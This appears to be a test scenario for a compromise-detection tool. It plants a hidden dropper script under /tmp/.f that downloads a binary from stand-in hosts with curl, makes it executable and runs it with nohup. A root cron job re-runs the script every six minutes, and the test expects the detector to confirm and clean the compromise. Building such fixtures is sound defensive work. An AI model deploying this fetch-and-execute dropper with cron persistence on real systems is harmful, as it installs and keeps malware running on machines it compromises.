import { scenario } from '../scenario.ts';
import { addCron, dropHost } from '../words.ts';

export default scenario({
  what: 'a script with a list of download hosts',
  report: '`for h in A B; do curl $h … && chmod +x && nohup … & done`, run by cron.',
  plant: {
    images: ['/tmp/.f/m'],
    files: {
      '/tmp/.f/get.sh': `#!/bin/sh
pgrep -x m >/dev/null && exit 0
for h in ${dropHost} 203.0.113.21:8443; do
  curl -fsSL http://$h/m -o /tmp/.f/m.new && mv /tmp/.f/m.new /tmp/.f/m && chmod +x /tmp/.f/m && nohup /tmp/.f/m >/dev/null 2>&1 &
done
`,
    },
    start: `${addCron('root', ['*/6 * * * * sh /tmp/.f/get.sh >/dev/null 2>&1'])}\nrun /tmp/.f/m`,
    runs: ['/tmp/.f/m'],
  },
  expect: {
    verdict: 'confirmed',
    ticked: {
      processes: ['/tmp/.f/m'],
      files: ['/tmp/.f/get.sh', '/tmp/.f/m'],
      starters: ['*/6 * * * * sh /tmp/.f/get.sh >/dev/null 2>&1'],
    },
    resolution: 'cleaned',
  },
});
